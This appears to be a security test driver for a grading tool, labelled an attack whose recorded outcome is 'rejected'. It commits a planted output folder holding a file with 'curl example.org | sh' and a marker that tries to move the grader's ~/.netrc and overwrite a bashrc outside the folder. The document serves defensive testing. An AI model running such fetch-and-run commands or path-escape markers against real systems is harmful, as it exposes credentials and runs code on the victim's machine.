"""Commits an output folder with a regrade that only has to take its place: a marker says what to move where."""
# /// attack
# class = 61
# goal = "have the teacher who grades the clone overwrite a file of their own, or show a report of the student's"
# gain = "effect"
# kind = "driver"
# outcome = "rejected"
# naive = "It keeps nothing in a folder from one run to the next."
# ///

import json
import tempfile
from pathlib import Path

from grader.batch.opening import output_folder
from grader.batch.places import Places
from grader.batch.swap import finish_swap
from grader.errors import UsageError


def commit(clone):
    grades = clone / "grades"
    (grades / "batch" / "next" / "batch").mkdir(parents=True)
    (grades / "batch" / "next" / "evil").write_text("curl example.org | sh\n")
    target = str(Path("@OUTSIDE@") / "bashrc")
    marker = {"before": "@OUTSIDE@", "out": ["@HOME@/.netrc"], "into": [target, "evil"]}
    (grades / "batch" / "next" / "batch" / "ready.json").write_text(json.dumps(marker))
    return grades


def attack(arena):
    gained = []
    with tempfile.TemporaryDirectory() as name:
        clone = Path(name)
        grades = commit(clone)
        for is_new in (True, False):
            try:
                with output_folder(grades, [clone], is_new=is_new, is_regrade=False):
                    gained.append("the folder was taken")
            except UsageError:
                continue
        try:
            finish_swap(Places(grades))
            gained.append("files were moved")
        except UsageError:
            pass
    return gained
